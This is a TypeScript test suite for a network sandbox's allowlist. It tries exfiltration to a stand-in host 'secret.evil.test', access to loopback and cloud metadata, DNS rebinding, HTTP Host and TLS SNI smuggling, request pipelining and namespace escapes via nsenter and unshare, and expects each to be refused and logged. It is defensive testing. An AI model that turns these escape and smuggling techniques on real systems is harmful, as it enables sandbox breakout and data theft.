// Attacks on an allowlist from inside: each must fail at once, and what the host saw of it is written down.
import {createSocket} from 'node:dgram';
import {existsSync, readFileSync, readdirSync} from 'node:fs';
import {createServer as createHttpServer} from 'node:http';
import {connect, createServer} from 'node:net';
import {afterAll, beforeAll, describe, expect, test} from 'vitest';
import {findProgram} from '../commands/find-program.ts';
import {createNetworkBench, networkObstacle, type NetworkBench} from '../testing/network-bench.fixture.ts';

const obstacle = networkObstacle();
if (obstacle !== undefined) process.stderr.write(`skipped: attacks on an allowlist: ${obstacle}\n`);

describe.skipIf(obstacle !== undefined)('an attack on an allowlist', () => {
  let network: NetworkBench;
  let [echo, web, secret] = [0, 0, 0];
  beforeAll(async () => {
    network = await createNetworkBench();
    ({echo, web, secret} = network);
  });
  afterAll(() => network.remove());

  test('refuses everything else immediately, and records it', async () => {
    expect(
      await new Promise((resolve) => connect(secret, '127.0.0.1').on('data', (data) => resolve(String(data)))),
    ).toBe('the secret of the host');
    const before = network.asked.length;
    const {output, enforcement} = await network.run(
      `return {
         exfiltration: await tcp('secret.evil.test', ${echo}), below: await tcp('x.api.test', ${echo}), port: await tcp('api.test', 9),
         service: await tcp('127.0.0.1', ${secret}), service6: await tcp('::ffff:127.0.0.1', ${secret}), local: await tcp('localhost', ${secret}),
         direct: await tcp('1.1.1.1', ${echo}), direct6: await tcp('2606:4700::1', ${echo}), metadata: await tcp('169.254.169.254', 80),
         own: await tcp(Object.values((await import('node:os')).networkInterfaces()).flat()[0].address, ${secret}),
       };`,
      {allow: [`api.test:${echo}`, `127.0.0.1:${echo}`]},
    );
    expect(output.data).toEqual({
      exfiltration: 'ENOTFOUND',
      below: 'ENOTFOUND',
      port: 'ECONNREFUSED',
      service: 'ECONNREFUSED',
      service6: 'ECONNREFUSED',
      local: 'ECONNREFUSED',
      direct: 'ECONNREFUSED',
      direct6: 'ECONNREFUSED',
      metadata: 'ECONNREFUSED',
      own: 'ECONNREFUSED',
    });
    // No unlisted name or address was requested from any server.
    expect(network.asked.slice(before)).toEqual([]);
    expect(enforcement.denials?.slice(0, 2)).toEqual([
      'network secret.evil.test: no entry lists the name',
      'network x.api.test: no entry lists the name',
    ]);
    // The kernel refused the rest, and kept count of it where there is an nft to ask.
    const refused = [
      'api.test:9',
      `127.0.0.1:${secret}`,
      `1.1.1.1:${echo}`,
      `[2606:4700::1]:${echo}`,
      '169.254.169.254:80',
    ].map((destination) => `network ${destination}: no entry allows it`);
    if (findProgram('nft') !== undefined)
      expect(enforcement.denials?.slice(2)).toEqual(expect.arrayContaining(refused));
  });

  test('a name that leads to the host, its neighbours or the metadata service is not followed', async () => {
    const {output, enforcement} = await network.run(
      `return [await tcp('rebind.test', ${secret}), await tcp('127.0.0.1', 4), await tcp('nowhere.test', 80)];`,
      {allow: [`rebind.test:${secret}`, '0.0.0.0/0:4', 'nowhere.test:80']},
    );
    expect(output.data).toEqual(['ECONNRESET', 'ECONNRESET', 'ECONNRESET']);
    expect(enforcement.denials).toEqual([
      `network rebind.test:${secret}: it resolves to 169.254.169.254, 127.0.0.1, ::1, which no entry lists as an address (rule rebind.test:${secret})`,
      'network 127.0.0.1:4: it is a loopback, private, link-local or metadata address, which no entry lists as an address (rule 0.0.0.0/0:4)',
      'network nowhere.test:80: it does not resolve (not found) (rule nowhere.test:80)',
    ]);
  });

  test('a connection to a listed name is for that name: TLS and HTTP for another name are reset', async () => {
    const {output, enforcement} = await network.run(
      `const tls = await import('node:tls');
       const hello = (servername) => new Promise((done) => tls.connect({host: 'api.test', port: ${echo}, servername, rejectUnauthorized: false}).on('error', ({code}) => done(code)));
       return {
         front: await tcp('api.test', ${web}, 'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'),
         honest: (await tcp('api.test', ${web}, 'GET /x HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: close\\r\\n\\r\\n')).split('\\r\\n\\r\\n')[1],
         tls: await hello('evil.test'), bare: await hello(''),
       };`,
      {allow: [web, echo].flatMap((port) => [`api.test:${port}`, `127.0.0.1:${port}`])},
    );
    expect(output.data).toEqual({front: 'ECONNRESET', honest: 'api.test/x', tls: 'ECONNRESET', bare: 'ECONNRESET'});
    expect(enforcement.denials).toEqual([
      `network api.test:${web}: its HTTP request is for \`evil.test\` (rule api.test:${web})`,
      `network api.test:${echo}: its TLS hello names \`evil.test\` (rule api.test:${echo})`,
      `network api.test:${echo}: its TLS hello does not name a server (rule api.test:${echo})`,
    ]);
  });

  test('every request on a connection is for that name: a later one for another host never arrives', async () => {
    const received: string[] = [];
    const shared = await network.listen(
      createHttpServer((request, response) => {
        received.push(`${request.method} ${request.headers.host}`);
        request.resume().on('end', () => response.end('ok'));
      }),
    );
    const {output, enforcement} = await network.run(
      `const evil = 'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n';
       const host = (method, more = '') => method + ' / HTTP/1.1\\r\\nHost: api.test:${shared}\\r\\n' + more + '\\r\\n';
       const after = (first) => new Promise((done) => {
         const socket = net.connect(${shared}, 'api.test', () => socket.write(first));
         socket.once('data', () => { socket.write(evil); socket.once('data', () => done('answered')); }).on('error', ({code}) => done(code));
       });
       const {Agent, get} = await import('node:http'); const agent = new Agent({keepAlive: true, maxSockets: 1});
       const kept = () => new Promise((done) => get({host: 'api.test', port: ${shared}, agent}, (response) => response.resume().on('end', () => done(response.statusCode))));
       const seen = {
         pipelined: await tcp('api.test', ${shared}, host('GET') + evil), kept: await after(host('GET')),
         length: await after(host('POST', 'Content-Length: 4\\r\\n') + 'body'),
         chunked: await after(host('PUT', 'Transfer-Encoding: chunked\\r\\n') + '4\\r\\nbody\\r\\n0\\r\\n\\r\\n'),
         upgrade: await after(host('GET', 'Connection: upgrade\\r\\nUpgrade: none\\r\\n')), honest: [await kept(), await kept(), await kept()],
       };
       agent.destroy(); return seen;`,
      {allow: [`api.test:${shared}`, `127.0.0.1:${shared}`]},
    );
    expect(output.data).toEqual({
      pipelined: 'ECONNRESET',
      kept: 'ECONNRESET',
      length: 'ECONNRESET',
      chunked: 'ECONNRESET',
      upgrade: 'ECONNRESET',
      honest: [200, 200, 200],
    });
    expect(received.filter((request) => request.includes('evil'))).toEqual([]);
    expect(received.filter((request) => request === `GET api.test:${shared}`).length).toBeGreaterThanOrEqual(3);
    expect(enforcement.denials).toEqual([
      `network api.test:${shared}: its HTTP request is for \`evil.test\` (rule api.test:${shared})`,
    ]);
  });

  test('UDP reaches nothing', async () => {
    const udp = createSocket('udp4');
    const received: string[] = [];
    udp.on('message', (data) => received.push(String(data)));
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
    const {port} = udp.address();
    const {output, enforcement} = await network.run(
      `const {createSocket} = await import('node:dgram');
       const send = (host, port) => new Promise((done) => {
         const socket = createSocket('udp4').on('error', ({code}) => done(code));
         socket.connect(port, host, () => { socket.send('leak'); setTimeout(() => done('silence'), 500); });
       });
       return [await send('127.0.0.1', ${port}), await send('203.0.113.8', 53), await send('127.0.0.1', ${echo})];`,
      {allow: [`127.0.0.1:${echo}`, '203.0.113.8:53']},
    );
    expect(output.data).toEqual(['ECONNREFUSED', 'ECONNREFUSED', 'ECONNREFUSED']);
    udp.close();
    expect(received).toEqual([]);
    const noted = findProgram('nft') === undefined ? [] : ['network 203.0.113.8:53/udp: no entry allows it'];
    expect(enforcement.denials).toEqual(expect.arrayContaining(noted));
  });

  test('the namespace cannot be changed or left from inside, and contains no process to attack', async () => {
    const holders: string[] = [];
    const spy = await network.listen(
      createServer((socket) => {
        for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
          const path = `/proc/${pid}/cmdline`;
          if (
            existsSync(path) &&
            readFileSync(path, 'utf8').startsWith(`${process.execPath}\0${network.bench.folder}/network-holder.cjs`)
          )
            holders.push(pid);
        }
        socket.end('looked');
      }),
    );
    const {output} = await network.run(
      `return {
         looked: await tcp('127.0.0.1', ${spy}),
         processes: fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name)).map((pid) => fs.readFileSync('/proc/' + pid + '/cmdline', 'utf8')).filter((line) => line.includes('holder')),
         down: await sh('ip link set lo down; ip -o link show lo | grep -c ,UP'), route: (await sh('ip route add 1.1.1.1/32 dev lo')).slice(0, 6),
         leave: (await sh('nsenter --net=/proc/1/ns/net true')).slice(0, 6), fresh: (await sh('unshare -Urn true')).slice(0, 6),
         sysctl: (() => { try { fs.writeFileSync('/proc/sys/net/ipv4/ip_forward', '1'); return 'written'; } catch ({code}) { return code; } })(),
         descriptors: fs.readdirSync('/proc/self/fd').map((fd) => { try { return fs.readlinkSync('/proc/self/fd/' + fd); } catch { return ''; } }).filter((link) => link.startsWith('net:') || link.startsWith('user:')),
         still: await tcp('127.0.0.1', ${echo}),
       };`,
      {allow: [`127.0.0.1:${echo}`, `127.0.0.1:${spy}`]},
    );
    expect(output.data).toEqual({
      looked: 'looked',
      processes: [],
      down: '1\n',
      route: 'failed',
      leave: 'failed',
      fresh: 'failed',
      sysctl: expect.stringMatching(/EROFS|EACCES/),
      descriptors: [],
      still: 'ping',
    });
    expect(holders).toEqual([]);
  });
});
